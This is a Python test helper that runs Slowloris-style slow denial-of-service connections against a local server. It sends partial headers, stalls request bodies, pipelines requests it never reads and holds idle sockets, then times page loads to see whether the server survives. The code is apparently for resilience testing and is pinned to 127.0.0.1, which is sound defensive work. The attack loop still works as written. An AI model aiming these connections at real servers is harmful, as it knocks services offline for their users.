"""Hostile clients: connections that hold a server's threads or memory and give nothing back."""

import contextlib
import http.client
import socket
import ssl
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass

NAME = "studio.example"
PAGE = b"GET / HTTP/1.1\r\nHost: studio.example\r\n"
FORM = (
    b"POST /messages HTTP/1.1\r\nHost: studio.example\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\nmessage="
)
DRIP_S = 0.5
"""Seconds between two drips."""


@dataclass(frozen=True, slots=True)
class Attack:
    """Connections that send `opening` at once, then `drip` twice a second, and read nothing."""

    name: str
    connections: int
    opening: bytes = b""
    drip: bytes = b""


ATTACKS = (
    Attack("64 partial headers", 64, PAGE + b"X-Slow: ", b"a"),
    Attack("64 stalled bodies", 64, FORM % 30_000, b"a"),
    Attack("64 stalled large bodies", 64, FORM % 15_000_000 + b"a" * 200_000, b"a" * 1000),
    Attack("60 that neither read nor close", 60, PAGE + b"Connection: close\r\n\r\n"),
    Attack("64 that ask on and never read", 64, (PAGE + b"\r\n") * 50, (PAGE + b"\r\n") * 10),
    Attack("1,100 idle connections", 1100),
)


@dataclass(frozen=True, slots=True)
class Target:
    """A server on 127.0.0.1, behind TLS if there is a context."""

    port: int
    tls: ssl.SSLContext | None = None

    def connect(self, timeout_s: float = 30, receive_buffer: int | None = None) -> socket.socket:
        """Opens a connection. `receive_buffer` are the bytes that arrive before anything is read."""
        connection = socket.socket()
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        connection.settimeout(timeout_s)
        try:
            connection.connect(("127.0.0.1", self.port))
            return self.tls.wrap_socket(connection, server_hostname=NAME) if self.tls else connection
        except OSError:
            connection.close()
            raise

    def load_page(self, path: str = "/", timeout_s: float = 30) -> float:
        """Loads a page over a new connection, as another client; returns the seconds it took."""
        started_at = time.perf_counter()
        connection = http.client.HTTPConnection(NAME)
        connection.sock = self.connect(timeout_s)
        connection.request("GET", path)
        response = connection.getresponse()
        response.read()
        connection.close()
        if response.status != 200:
            raise RuntimeError(f"{path}: {response.status}")
        return time.perf_counter() - started_at


@contextmanager
def attacking(target: Target, attack: Attack) -> Iterator[None]:
    """Attacks from all connections until the end; a connection that the server closes is opened again."""
    stop = threading.Event()
    opened = [_open(target, attack) for _ in range(attack.connections)]

    def keep_on() -> None:
        while not stop.wait(DRIP_S):
            for number, connection in enumerate(opened):
                try:
                    connection.send(attack.drip)
                except (BlockingIOError, ssl.SSLWantWriteError):
                    pass  # the server reads no more of it
                except OSError:
                    connection.close()
                    with contextlib.suppress(OSError):
                        opened[number] = _open(target, attack)

    thread = threading.Thread(target=keep_on, name=attack.name)
    thread.start()
    try:
        yield
    finally:
        stop.set()
        thread.join()
        for connection in opened:
            connection.close()


def _open(target: Target, attack: Attack) -> socket.socket:
    connection = target.connect(receive_buffer=4096)
    connection.setblocking(False)
    with contextlib.suppress(BlockingIOError, ssl.SSLWantWriteError):
        connection.send(attack.opening)
    return connection
